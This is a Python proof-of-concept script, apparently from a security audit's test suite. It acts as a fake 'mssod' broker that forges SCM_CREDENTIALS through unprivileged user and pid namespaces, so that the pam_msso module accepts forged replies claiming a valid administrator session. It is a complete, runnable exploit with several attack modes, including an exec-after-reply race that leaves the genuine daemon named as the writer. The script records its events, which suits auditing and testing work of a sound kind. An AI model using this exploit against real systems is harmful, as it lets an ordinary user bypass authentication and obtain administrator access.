"""A fake broker that forges the kernel's word on who it is, with no privilege: malware of the user.

    python3 forging_broker.py SOCKET RECORD EVENTS MSSOD HOW [PID]

Run as an ordinary user. Unless HOW is `plain`, it makes a user namespace of its own (where it holds every capability)
and, unless HOW is `userns-only`, a pid namespace owned by it, whose pid 1 listens on SOCKET and
starts the genuine MSSOD as its child (with the environment it was given, but a runtime directory
of its own, so that mssod does not take SOCKET back, and a state directory of its own, so that the
one-mssod-per-user lock of the genuine mssod running beside does not stop it). It answers pam_msso as mssod would (hello,
status with one administrator's group whose session is valid, login), and sends every reply with SCM_CREDENTIALS naming
that mssod: the kernel allows it, because it holds CAP_SYS_ADMIN over the user namespace that owns
its pid namespace, and derives SCM_PIDFD from the pid named.

HOW:
  plain        no namespace, no mssod, no forging: any process of the user answering on SOCKET
  exec-after-reply
               no namespace, no forging: the process that accepts a connection writes the replies
               and execs the genuine mssod, while a child of it keeps reading the connection
  pidns        mssod is pid 2 of the forger's pid namespace (the audit's attack)
  nested       mssod runs in a pid and user namespace below the forger's, and is named by its pid
               in the forger's namespace
  userns-only  a user namespace without a pid namespace: the forger stays in the host's pid
               namespace and tries to name its mssod child there
  host-pid     pid namespace as with `pidns`, but the forger names PID, a process of the host's pid
               namespace (the real mssod): the kernel looks the pid up in the forger's namespace

Appends every byte received to RECORD, and what it did to EVENTS, one line each: `forger HOSTPID`
(the process that listens, as the host numbers it), `mssod PID DIR` (as the forger numbers it; its
runtime directory, where it listens once started),
`listening`, then per reply `forged PID`, or `refused ERRNO-NAME` when the kernel refused the
forged credentials (the reply is then sent with the forger's true ones); with `exec-after-reply`,
`exec PID DIR` before the exec and `closed` when the reader saw the connection's end."""
import ctypes
import errno
import json
import os
import socket
import struct
import sys
import tempfile
import threading

import fake_broker

CLONE_NEWUSER = 0x10000000
CLONE_NEWPID = 0x20000000
libc = ctypes.CDLL(None, use_errno=True)


def unshare(flags):
    """Into new namespaces, mapping the user's uid and gid to themselves (an unprivileged user may
    map its own ids, once). The caller keeps every capability in the new user namespace, until it
    execs a program."""
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(flags) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
        with open(f"/proc/self/{name}", "w") as f:
            f.write(text)


def note(events, line):
    with open(events, "a") as f:
        f.write(line + "\n")


def start_mssod(mssod, nested, report):
    """Forks the genuine mssod; its pid in this process's pid namespace and its runtime directory,
    through `report`."""
    runtime = tempfile.mkdtemp(prefix="msso-forged-run-")
    env = dict(os.environ, XDG_RUNTIME_DIR=runtime, XDG_STATE_HOME=runtime + "/state")
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read)
        if nested:  # one more user and pid namespace below; mssod is its pid 1
            unshare(CLONE_NEWUSER | CLONE_NEWPID)
            grandchild = os.fork()
            if grandchild != 0:
                os.write(write, str(grandchild).encode())  # as the forger's namespace numbers it
                os.waitpid(grandchild, 0)
                os._exit(0)
        else:
            os.write(write, str(os.getpid()).encode())
        os.close(write)
        os.execve(mssod, [mssod], env)
    os.close(write)
    pid = int(os.read(read, 32))
    os.close(read)
    report(pid, runtime)
    return pid


def serve(conn, record, events, named):
    """Answers pam_msso as mssod would, every reply sent under `named`'s credentials."""
    ids = struct.pack("iII", named, os.getuid(), os.getgid())
    while True:
        header = fake_broker.read_exactly(conn, 4, record)
        body = header and fake_broker.read_exactly(conn, struct.unpack(">I", header)[0], record)
        if body is None:
            return
        call = json.loads(body)
        serial, method = call["serial"], call["method"]
        if method == "hello":
            answer = fake_broker.reply(serial, {"version": 1, "daemon": "mssod 0.1.0", "peer": {"uid": 0, "pid": 1}})
        elif method == "status":
            answer = fake_broker.reply(serial, {"groups": [fake_broker.session()]})
        else:  # login (with the password), logout
            answer = fake_broker.reply(serial, fake_broker.session())
        if not named:
            conn.sendall(answer)
            continue
        try:
            conn.sendmsg([answer], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, ids)])
            note(events, f"forged {named}")
        except OSError as e:
            note(events, f"refused {errno.errorcode.get(e.errno, e.errno)}")
            conn.sendall(answer)


def listen_and_serve(path, record, events, mssod, how, host_pid):
    try:
        os.unlink(path)  # mssod's, if it left it: malware stopped mssod
    except FileNotFoundError:
        pass
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()
    named = 0
    if how not in ("plain", "exec-after-reply"):
        mssod_pid = start_mssod(mssod, how == "nested", lambda pid, runtime: note(events, f"mssod {pid} {runtime}"))
        named = host_pid if how == "host-pid" else mssod_pid
    note(events, "listening")
    if how == "exec-after-reply":
        conn, _ = listener.accept()
        exec_after_reply(conn, record, events, mssod)
    while True:
        conn, _ = listener.accept()
        threading.Thread(target=serve_quietly, args=(conn, record, events, named), daemon=True).start()


def exec_after_reply(conn, record, events, mssod):
    """Writes the replies to hello and status (serials 1 and 2), and to the next calls (serials 3 to
    8), at once, before they are asked for,
    leaves the connection to a child that only reads, and becomes the genuine mssod: the process
    the kernel names as the writer of every reply is then mssod, by the time anyone looks."""
    # Signals before the status reply, which the module reads past: time for the exec meanwhile.
    signals = fake_broker.message({"type": "signal", "signal": "x" * 2000}) * 64
    replies = (fake_broker.reply(1, {"version": 1, "daemon": "mssod 0.1.0", "peer": {"uid": 0, "pid": 1}}) + signals +
               fake_broker.reply(2, {"groups": [fake_broker.session()]}))
    # And the answers to whatever the module asks next, should it ask after checking (a ping to
    # see the checked process answer again): its serials are 3, 4, … if it counts them.
    replies += b"".join(fake_broker.reply(serial, {}) for serial in range(3, 9))
    if os.fork() == 0:  # the reader
        try:
            while fake_broker.read_exactly(conn, 1, record) is not None:
                pass
        except ConnectionResetError:  # the module closed with answers it did not read
            pass
        note(events, "closed")
        os._exit(0)
    runtime = tempfile.mkdtemp(prefix="msso-forged-run-")
    env = dict(os.environ, XDG_RUNTIME_DIR=runtime, XDG_STATE_HOME=runtime + "/state")
    note(events, f"exec {os.getpid()} {runtime}")
    conn.sendall(replies)
    os.execve(mssod, [mssod], env)


def serve_quietly(conn, record, events, named):
    try:
        serve(conn, record, events, named)
    except OSError:
        pass
    finally:
        conn.close()


def main():
    path, record, events, mssod, how, *rest = sys.argv[1:]
    host_pid = int(rest[0]) if rest else 0
    if how not in ("plain", "exec-after-reply"):
        unshare(CLONE_NEWUSER if how == "userns-only" else CLONE_NEWUSER | CLONE_NEWPID)
    forger = os.fork()  # in a new pid namespace, its pid 1
    if forger == 0:
        listen_and_serve(path, record, events, mssod, how, host_pid)
    note(events, f"forger {forger}")  # as the host numbers it
    os.waitpid(forger, 0)


if __name__ == "__main__":
    main()
